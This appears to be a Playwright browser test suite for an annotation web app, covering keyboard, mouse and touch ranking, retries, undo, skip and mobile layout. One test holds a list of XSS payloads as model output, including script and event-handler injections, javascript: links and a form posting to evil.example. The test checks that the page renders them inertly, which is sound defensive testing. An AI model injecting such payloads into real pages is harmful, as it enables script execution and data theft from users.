"""An annotator in a real browser: every kind by keyboard alone and by mouse (and a touch drag), hostile
model output that must run nothing, undo and skip, and a phone-width layout."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from feedback import pii
from feedback.models import Annotation, Candidate, Item, ItemCandidate, Lease, Prompt, Skip
from feedback.services.projects import membership_set

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def setup(annotator, project_factory, make_item):
    """setup(kind, n_items=1, **project fields) -> (project, annotate url)."""

    def make(kind: str, n_items: int = 1, texts: list[str] | None = None, **fields):
        project = project_factory(task_kind=kind, guidelines="Prefer **correct** answers.", **fields)
        membership_set(project=project, user=annotator, role="annotator")
        for _ in range(n_items):
            make_item(project, texts=texts)
        return project, f"/projects/{project.slug}/annotate/"

    return make


def shown_ids(page) -> list[int]:
    return [
        int(x)
        for x in page.locator("[data-candidate-id]").evaluate_all(
            "els => els.map(e => e.getAttribute('data-candidate-id'))"
        )
    ]


def submit_and_wait(page, action) -> None:
    with page.expect_navigation():
        action()
    page.wait_for_load_state("domcontentloaded")


def the_annotation(user) -> Annotation:
    return Annotation.objects.get(annotator=user)


# ------------------------------------------------------------------------------------------------ keyboard


def test_ranking_by_keyboard_alone(page, login, annotator, setup, shot, watch):
    _project, url = setup("ranking", responses_per_item=4, allow_ties=True)
    login(page, annotator, url)
    shown = shown_ids(page)
    assert shown == Lease.objects.get(annotator=annotator).order_shown
    by_label = dict(zip("1234", shown, strict=True))
    page.keyboard.press("3")  # pick response 3 …
    page.keyboard.press("ArrowUp")
    page.keyboard.press("ArrowUp")  # … to the top: 3 1 2 4
    page.keyboard.press("4")
    page.keyboard.press("ArrowUp")  # 3 1 4 2
    page.keyboard.press("t")  # 4 ties with 1
    assert page.locator("#ranking .rank-number").all_inner_texts() == ["1", "2", "2", "4"]
    page.keyboard.press("c")
    page.keyboard.type("4 and 1 are equally good")
    page.keyboard.press("Escape")
    page.wait_for_timeout(50)  # some time on task
    shot(page, "ranked")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))

    a = the_annotation(annotator)
    assert a.kind == "ranking"
    assert a.order_shown == shown
    assert a.payload == {"ranking": [[by_label["3"]], [by_label["1"], by_label["4"]], [by_label["2"]]]}
    assert a.comment == "4 and 1 are equally good"
    assert a.time_spent_ms > 0
    assert a.pairs.filter(is_tie=True).count() == 1 and a.pairs.count() == 6
    assert page.locator("#undo-form").is_visible()
    assert not watch.errors and not watch.dialogs and not watch.outside_requests


def test_pairwise_by_keyboard_alone(page, login, annotator, setup, shot, watch):
    _project, url = setup("pairwise")
    login(page, annotator, url)
    shown = shown_ids(page)
    page.keyboard.press("2")  # B is better
    page.keyboard.press("w")  # clearly
    assert page.locator("#choice-B").get_attribute("aria-pressed") == "true"
    page.keyboard.press("b")  # write a better answer
    page.keyboard.type("The best answer.")
    page.keyboard.press("Escape")
    shot(page, "chosen")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))

    a = the_annotation(annotator)
    assert a.order_shown == shown
    assert a.payload == {"choice": "B", "strength": "clear", "chosen": shown[1]}
    pair = a.pairs.get()
    assert (pair.chosen_id, pair.rejected_id, pair.margin) == (shown[1], shown[0], 2.0)
    assert a.demonstration.text == "The best answer."
    assert not watch.errors and not watch.dialogs


def test_binary_by_keyboard_alone(page, login, annotator, setup, shot, watch):
    _project, url = setup("binary", responses_per_item=3)
    login(page, annotator, url)
    shown = shown_ids(page)
    page.keyboard.press("y")  # response 1 is picked first; thumbs up, moves on to 2
    page.keyboard.press("n")  # 2: down
    page.keyboard.press("3")
    page.keyboard.press("y")
    page.keyboard.press("2")
    page.keyboard.press("y")  # change of mind on 2
    shot(page, "voted")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))

    a = the_annotation(annotator)
    assert a.order_shown == shown
    assert a.payload["labels"] == {str(c): "up" for c in shown}
    assert sorted(a.labels.values_list("candidate_id", "label")) == sorted((c, True) for c in shown)
    assert not watch.errors and not watch.dialogs


# ------------------------------------------------------------------------------------------------ mouse / touch


def _drag(page, source, target, *, steps: int = 12) -> None:
    page.evaluate("document.getElementById('ranking').scrollIntoView()")
    s = source.bounding_box()
    t = target.bounding_box()
    page.mouse.move(s["x"] + s["width"] / 2, s["y"] + s["height"] / 2)
    page.mouse.down()
    page.mouse.move(t["x"] + t["width"] / 2, t["y"] + 2, steps=steps)
    page.mouse.up()


def test_ranking_by_mouse_drag(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("ranking", responses_per_item=4, allow_ties=False)
    session_login(page, annotator, url)
    shown = shown_ids(page)
    cards = page.locator("#ranking .rank-card")
    assert page.locator(".tie-box").count() == 0  # no ties in this project
    _drag(page, cards.nth(3).locator(".drag-handle"), cards.nth(0).locator(".drag-handle"))  # 4 1 2 3
    assert shown_ids(page) == [shown[3], shown[0], shown[1], shown[2]]
    page.get_by_role("button", name="Move response 2 down").click()  # 4 1 3 2
    page.get_by_label("Broken output").check()
    page.locator("#demonstration-box summary").click()
    page.get_by_label("Your answer to the prompt").fill("Better, by mouse.")
    shot(page, "dragged")
    submit_and_wait(page, lambda: page.get_by_role("button", name="Submit").click())

    a = the_annotation(annotator)
    assert a.order_shown == shown
    assert a.payload == {"ranking": [[shown[3]], [shown[0]], [shown[2]], [shown[1]]]}
    assert a.flags == ["broken"] and a.demonstration.text == "Better, by mouse."
    assert not watch.errors and not watch.dialogs


def test_ranking_by_touch_drag(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("ranking", responses_per_item=3, allow_ties=False)
    session_login(page, annotator, url)
    shown = shown_ids(page)
    cards = page.locator("#ranking .rank-card")
    page.evaluate("document.getElementById('ranking').scrollIntoView()")
    s = cards.nth(2).locator(".drag-handle").bounding_box()
    t = cards.nth(0).locator(".drag-handle").bounding_box()
    cdp = page.context.new_cdp_session(page)
    x, y0, y1 = s["x"] + s["width"] / 2, s["y"] + s["height"] / 2, t["y"] + 2
    cdp.send("Input.dispatchTouchEvent", {"type": "touchStart", "touchPoints": [{"x": x, "y": y0}]})
    for i in range(1, 13):
        y = y0 + (y1 - y0) * i / 12
        cdp.send("Input.dispatchTouchEvent", {"type": "touchMove", "touchPoints": [{"x": x, "y": y}]})
    cdp.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
    assert shown_ids(page) == [shown[2], shown[0], shown[1]]
    shot(page, "touched")
    submit_and_wait(page, lambda: page.get_by_role("button", name="Submit").click())
    assert the_annotation(annotator).payload == {"ranking": [[shown[2]], [shown[0]], [shown[1]]]}
    assert not watch.errors


def test_pairwise_and_folding_by_mouse(page, session_login, annotator, setup, shot, watch):
    long_text = (
        "\n\n".join(f"Paragraph {i} of a long answer." for i in range(60))
        + "\n\n```python\nprint('end')\n```"
    )
    _project, url = setup("pairwise", texts=[long_text, "Short answer."])
    session_login(page, annotator, url)
    shown = shown_ids(page)
    long_id = shown[0] if Candidate.objects.get(pk=shown[0]).text == long_text else shown[1]
    body = page.locator(f"#body-{long_id}")
    toggle = page.locator(f"#card-{long_id} .fold-toggle")
    assert "folded" in body.get_attribute("class") and toggle.get_attribute("aria-expanded") == "false"
    folded_height = body.bounding_box()["height"]
    toggle.click()
    assert toggle.get_attribute("aria-expanded") == "true"
    assert body.bounding_box()["height"] > 2 * folded_height
    assert body.locator("pre code").inner_text().strip() == "print('end')"
    page.get_by_role("button", name="A is better").click()
    page.get_by_label("Slightly").check()
    shot(page, "chosen")
    submit_and_wait(page, lambda: page.get_by_role("button", name="Submit").click())
    a = the_annotation(annotator)
    assert a.order_shown == shown
    assert a.payload == {"choice": "A", "strength": "slight", "chosen": shown[0]}
    assert not watch.errors and not watch.dialogs


def test_binary_by_mouse_with_reasons(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("binary", responses_per_item=2)
    session_login(page, annotator, url)
    shown = shown_ids(page)
    first, second = (page.locator(f"#card-{c}") for c in shown)
    first.get_by_role("button", name="Good").click()
    second.get_by_role("button", name="Bad").click()
    assert first.get_by_label("Correct", exact=True).is_visible()
    assert not first.get_by_label("Incorrect").is_visible()
    first.get_by_label("Clear").check()
    second.get_by_label("Incorrect").check()
    second.get_by_label("Too long").check()
    page.get_by_label("Harmful").check()
    shot(page, "voted")
    submit_and_wait(page, lambda: page.get_by_role("button", name="Submit").click())
    a = the_annotation(annotator)
    assert a.payload == {
        "labels": {str(shown[0]): "up", str(shown[1]): "down"},
        "reasons": {str(shown[0]): ["clear"], str(shown[1]): ["incorrect", "too_long"]},
    }
    assert a.flags == ["harmful"]
    assert not watch.errors and not watch.dialogs


def test_a_lost_reply_is_retried_with_the_same_key(page, session_login, annotator, setup, shot, watch):
    """The first submit reaches the server but its reply is lost; the page retries with the same key and
    the server answers with the annotation it already stored: one annotation, not two."""
    _project, url = setup("pairwise", n_items=2)
    session_login(page, annotator, url)
    shown = shown_ids(page)
    calls: list[str] = []

    def flaky(route):
        calls.append(route.request.post_data_json["idempotency_key"])
        if len(calls) == 1:
            route.fetch()  # the server stores the annotation …
            route.abort("connectionreset")  # … and the page never hears back
        else:
            route.continue_()

    page.route("**/annotate/submit/", flaky)
    # What the page asked for, to say what happened if no submit is seen (CI saw calls == [] twice, on PostgreSQL).
    seen: list[str] = []
    page.on("request", lambda req: seen.append(f"{req.method} {req.url} ({req.resource_type})"))
    page.keyboard.press("1")
    # Wait for the retry itself (not for "a navigation": a late one from the login once satisfied that first).
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))
    for _ in range(100):
        if len(calls) >= 2:
            break
        page.wait_for_timeout(100)
    page.wait_for_load_state("domcontentloaded")
    assert len(calls) == 2 and calls[0] == calls[1], (calls, seen, page.url)
    a = the_annotation(annotator)  # exactly one
    assert a.idempotency_key == calls[0] and a.payload["chosen"] == shown[0]
    assert not watch.errors


def test_typed_text_survives_a_reload(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("pairwise", n_items=2)
    session_login(page, annotator, url)
    page.keyboard.press("b")
    page.keyboard.type("A draft that must not be lost.")
    page.get_by_label("Comment").fill("half-written comment")
    page.reload()
    assert watch.unload_prompts == 1  # the page asked before leaving
    assert page.get_by_label("Your answer to the prompt").input_value() == "A draft that must not be lost."
    assert page.get_by_label("Comment").input_value() == "half-written comment"
    page.keyboard.press("2")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))
    assert the_annotation(annotator).demonstration.text == "A draft that must not be lost."
    assert page.get_by_label("Comment").input_value() == ""  # the next item starts clean
    assert watch.unload_prompts == 1 and not watch.errors


def test_the_page_warns_before_the_hold_on_the_item_ends(page, session_login, annotator, setup, watch):
    _project, url = setup("pairwise", lease_ttl_seconds=2)
    session_login(page, annotator, url)
    error = page.locator("#error")
    assert "one more minute" in error.inner_text() or "gone back to the pool" in error.inner_text()
    expect(error).to_contain_text("gone back to the pool", timeout=5000)
    page.keyboard.press("1")
    page.keyboard.press("Enter")  # too late: the server says so, and the page keeps the choice on screen
    expect(error).to_contain_text("no live lease")
    assert not Annotation.objects.exists()
    assert page.locator("#choice-A").get_attribute("aria-pressed") == "true"
    assert not watch.errors


# ------------------------------------------------------------------------------------------------ hostile output

XSS = [
    "<script>window.__xss_script = 1; alert('script')</script>",
    '<img src="x" onerror="window.__xss_img = 1; alert(\'img\')">',
    "[click me](javascript:window.__xss_link=1) and <a href=\"javascript:alert('a')\">raw link</a>",
    '<iframe src="javascript:alert(\'iframe\')"></iframe><iframe srcdoc="<script>parent.__xss_iframe=1</script>"></iframe>',
    '<form action="https://evil.example/steal" method="post"><input name="pw"><button>Send</button></form>',
    '<svg onload="window.__xss_svg = 1; alert(\'svg\')"><circle r="9"/></svg>',
    '<details open ontoggle="window.__xss_toggle=1">x</details> <style>body{display:none}</style>'
    " ![pixel](https://evil.example/track.png)",
]


def test_hostile_candidates_render_as_text_and_run_nothing(
    page, session_login, annotator, project_factory, model_version, shot, watch
):
    project = project_factory(
        task_kind="binary",
        responses_per_item=len(XSS),
        guidelines="<script>window.__xss_guide=1</script> **Guidelines** [x](javascript:alert(1))",
    )
    membership_set(project=project, user=annotator, role="annotator")
    messages = [{"role": "user", "content": '<img src=x onerror="window.__xss_prompt=1"> Which is safe?'}]
    prompt = Prompt.objects.create(
        project=project,
        messages=messages,
        text=messages[0]["content"],
        content_hash=pii.messages_hash(messages),
    )
    item = Item.objects.create(project=project, prompt=prompt, annotations_required=1)
    for pos, text in enumerate(XSS):
        c = Candidate.objects.create(
            prompt=prompt, model_version=model_version, text=text, text_hash=pii.text_hash(text)
        )
        ItemCandidate.objects.create(item=item, candidate=c, position=pos)

    session_login(page, annotator, f"/projects/{project.slug}/annotate/")
    page.keyboard.press("?")  # open the guidelines too
    page.wait_for_timeout(300)  # give any injected handler a chance to fire
    shot(page, "hostile")

    injected = page.evaluate("() => Object.keys(window).filter(k => k.startsWith('__xss'))")
    assert injected == []
    assert watch.dialogs == []
    assert watch.outside_requests == []
    inside = ".md script, .md iframe, .md form, .md img, .md svg, .md style, .md input, .md details, .md [onerror], .md [onload], .md [ontoggle]"
    assert page.locator(inside).count() == 0
    assert page.locator(".md a[href^='javascript' i]").count() == 0
    # The payloads are there, as text.
    text = page.locator("#annotate").inner_text()
    for needle in (
        "<script>window.__xss_script",
        '<img src="x" onerror=',
        "<iframe src=",
        "<form action=",
        "<svg onload=",
    ):
        assert needle in text, needle
    assert "<script>window.__xss_guide=1</script>" in page.locator("#guidelines .md").text_content()
    # The page still works: judge every response and submit.
    for _ in XSS:
        page.keyboard.press("n")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))
    assert set(the_annotation(annotator).payload["labels"].values()) == {"down"}
    assert page.evaluate("() => Object.keys(window).filter(k => k.startsWith('__xss'))") == []
    assert not watch.dialogs and not watch.errors


# ------------------------------------------------------------------------------------------------ undo, skip


def test_undo_then_skip(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("pairwise", n_items=2, undo_window_seconds=120)
    session_login(page, annotator, url)
    first_item = int(page.locator("input[name=item_id]").get_attribute("value"))
    first_order = shown_ids(page)
    page.keyboard.press("1")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))
    assert Annotation.objects.filter(annotator=annotator).count() == 1
    assert int(page.locator("input[name=item_id]").get_attribute("value")) != first_item
    assert page.locator("#undo-form").is_visible()
    shot(page, "undo-offered")

    submit_and_wait(page, lambda: page.keyboard.press("u"))  # undo by key
    assert not Annotation.objects.filter(annotator=annotator).exists()
    assert Item.objects.get(pk=first_item).annotations_count == 0
    assert int(page.locator("input[name=item_id]").get_attribute("value")) == first_item
    assert shown_ids(page) == first_order  # the same item again, in the same order
    assert "undone" in page.locator(".messages").inner_text()

    page.keyboard.press("s")  # skip it
    dialog = page.locator("#skip-dialog")
    assert dialog.is_visible()
    dialog.get_by_label("The prompt is unclear").check()
    dialog.get_by_label("Details").fill("ambiguous wording")
    shot(page, "skip-dialog")
    submit_and_wait(page, lambda: dialog.get_by_role("button", name="Skip item").click())
    assert Skip.objects.get(annotator=annotator).item_id == first_item
    assert Skip.objects.get(annotator=annotator).reason == "unclear_prompt: ambiguous wording"
    assert int(page.locator("input[name=item_id]").get_attribute("value")) != first_item
    assert not watch.errors and not watch.dialogs


# ------------------------------------------------------------------------------------------------ phone width


@pytest.mark.parametrize("page", [{"width": 375, "height": 740}], indirect=True)
def test_phone_width_layout(page, session_login, annotator, setup, shot, watch):
    _project, url = setup("pairwise", texts=["A " * 400, "```\n" + "x" * 300 + "\n```"])
    session_login(page, annotator, url)
    shown = shown_ids(page)
    a, b = (page.locator(f"#card-{c}").bounding_box() for c in shown)
    assert b["y"] >= a["y"] + a["height"]  # stacked, not side by side
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 375
    shot(page, "phone")
    page.get_by_role("button", name="Both bad").tap()
    submit_and_wait(page, lambda: page.get_by_role("button", name="Submit").tap())
    assert the_annotation(annotator).payload["choice"] == "both_bad"
    assert not watch.errors


@pytest.mark.parametrize("page", [{"width": 375, "height": 740}], indirect=True)
@pytest.mark.parametrize("kind", ["ranking", "binary"])
def test_phone_width_other_kinds(page, session_login, annotator, setup, shot, watch, kind):
    _project, url = setup(kind, responses_per_item=3, texts=["Short.", "`" + "y" * 200 + "`", "Medium " * 30])
    session_login(page, annotator, url)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 375
    for control in page.locator("#annotate button:visible").all():  # big enough to tap
        box = control.bounding_box()
        assert box["height"] >= 30, control.inner_text()
    shot(page, "phone")
    assert not watch.errors


# ------------------------------------------------------------------------------------------------ home, progress


def test_home_and_progress_pages(page, session_login, annotator, user_factory, setup, shot, watch):
    project, url = setup("pairwise", n_items=3)
    membership_set(project=project, user=annotator, role="reviewer")
    session_login(page, annotator, url)
    page.keyboard.press("1")
    submit_and_wait(page, lambda: page.keyboard.press("Enter"))
    page.goto("/")
    row = page.get_by_role("row", name=project.name)
    assert "1 / 3" in row.inner_text() and "1 (1 today)" in row.inner_text()
    shot(page, "home")
    row.get_by_role("link", name="Progress").click()
    page.wait_for_url(f"**/projects/{project.slug}/progress/")
    assert page.locator("#items-done").inner_text() == "1 / 3"
    assert page.get_by_role("row", name=annotator.username).inner_text().split()[:3] == [
        annotator.username,
        "reviewer",
        "1",
    ]
    assert not watch.errors
